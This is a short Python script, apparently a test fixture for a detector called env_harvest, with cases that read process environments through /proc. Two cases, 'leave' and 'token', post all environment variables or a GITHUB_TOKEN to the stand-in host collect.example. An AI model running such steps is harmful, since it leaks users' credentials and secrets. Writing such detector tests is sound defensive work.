#!/usr/bin/python3
"""environ WAY: take secrets from environments, or look at one's own. For env_harvest.

parent  a child reads its parent's environment
init    the same of the sandbox's first process: refused, medium
leave   all of its own variables leave in one request
own     its own environment, by every name that it has
child   the environment of a child that it started
token   one token leaves, as a client of that service would send it
"""

import os
import socket
import subprocess
import sys
from pathlib import Path


def read(who: object) -> None:
    Path(f"/proc/{who}/environ").read_bytes()


def post(body: str) -> None:
    with socket.create_connection(("collect.example", 80), timeout=2) as connection:
        head = f"POST / HTTP/1.0\r\nHost: collect.example\r\nContent-Length: {len(body)}\r\n\r\n"
        connection.sendall((head + body).encode())
        connection.recv(1024)


match sys.argv[1]:
    case "parent":
        script = f"open('/proc/{os.getpid()}/environ', 'rb').read()"
        subprocess.run([sys.executable, "-c", script], check=True)
    case "init":
        try:
            read(1)
        except PermissionError as error:
            print(error)
    case "leave":
        post("\n".join(f"{name}={value}" for name, value in os.environ.items()))
    case "own":
        read("self")
        read("thread-self")
        read(os.getpid())
    case "child":
        with subprocess.Popen(["/bin/sleep", "1"]) as child:
            read(child.pid)
    case "token":
        post(os.environ["GITHUB_TOKEN"])
